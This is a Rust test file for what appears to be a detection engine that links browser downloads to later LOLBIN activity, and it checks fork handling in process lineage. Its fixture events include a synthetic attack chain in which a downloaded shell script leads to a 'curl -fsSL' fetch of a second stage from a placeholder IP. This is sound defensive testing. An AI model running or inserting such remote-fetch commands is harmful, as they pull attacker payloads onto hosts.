//! Fork-only children (auditd fork/vfork/clone; native `"fork": true`): lineage, nothing else.

use chrono::{DateTime, Utc};
use clickchain::{Config, Engine, Record};
use clickchain_adapters::native::NativeReader;

/// A chain in the browser, then a shell (outside the lineage) runs the file and forks a subshell
/// (bash image, a LOLBIN) that execs curl. `fork` says whether the subshell's start is a fork.
fn follow_ons(fork: bool) -> Vec<String> {
    let sub_fork = if fork { r#","fork":true"# } else { "" };
    let lines = format!(
        r#"{{"time":"2024-06-29T09:05:00.200Z","host":"h","os":"linux","kind":"process_start","proc":2310,"image":"/usr/lib/firefox/firefox","command_line":"/usr/lib/firefox/firefox https://a.top/x"}}
{{"time":"2024-06-29T09:05:01.000Z","host":"h","kind":"connect","proc":2310,"dst_ip":"203.0.113.77","dst_port":443}}
{{"time":"2024-06-29T09:05:07.000Z","host":"h","kind":"file_write","proc":2310,"path":"/home/a/Downloads/x.sh","op":"create"}}
{{"time":"2024-06-29T09:06:00.000Z","host":"h","kind":"process_start","proc":2400,"parent":1610,"image":"/usr/bin/bash","command_line":"bash Downloads/x.sh"}}
{{"time":"2024-06-29T09:06:01.000Z","host":"h","kind":"process_start","proc":2410,"parent":2400,"image":"/usr/bin/bash"{sub_fork}}}
{{"time":"2024-06-29T09:06:01.004Z","host":"h","kind":"process_start","proc":2410,"parent":2400,"image":"/usr/bin/curl","command_line":"curl -fsSL http://198.51.100.70/s2"}}
"#
    );
    let mut engine = Engine::new(Config::default()).unwrap();
    engine.set_now("2025-01-01T00:00:00Z".parse::<DateTime<Utc>>().unwrap());
    for r in NativeReader::new("t.ndjson", lines.as_bytes()) {
        engine.push(r.unwrap());
    }
    engine.finish();
    engine
        .drain()
        .iter()
        .filter_map(|r| match r {
            Record::FollowOn(f) => Some(format!("{} {}", f.kind, f.process)),
            Record::Alert(_) => None,
        })
        .collect()
}

/// Bug found with the auditd adapter: each fork of a shell that ran the file was taken for a new
/// LOLBIN run under it (`lolbin_child` by bash).
#[test]
fn fork_of_a_shell_that_ran_the_file_is_not_a_lolbin_child() {
    assert_eq!(follow_ons(true), ["lolbin_with_file /usr/bin/bash", "lolbin_child /usr/bin/curl"]);
    // The same start without the flag is an exec of bash, and is one.
    assert_eq!(
        follow_ons(false),
        ["lolbin_with_file /usr/bin/bash", "lolbin_child /usr/bin/bash", "lolbin_child /usr/bin/curl"]
    );
}

#[test]
fn native_fork_flag_round_trips() {
    let line = r#"{"time":"2024-06-29T09:06:01Z","host":"h","kind":"process_start","proc":2410,"parent":2400,"image":"/usr/bin/bash","fork":true}"#;
    let event = NativeReader::new("t", line.as_bytes()).next().unwrap().unwrap();
    assert_eq!(clickchain_adapters::native::to_line(&event), line);
}
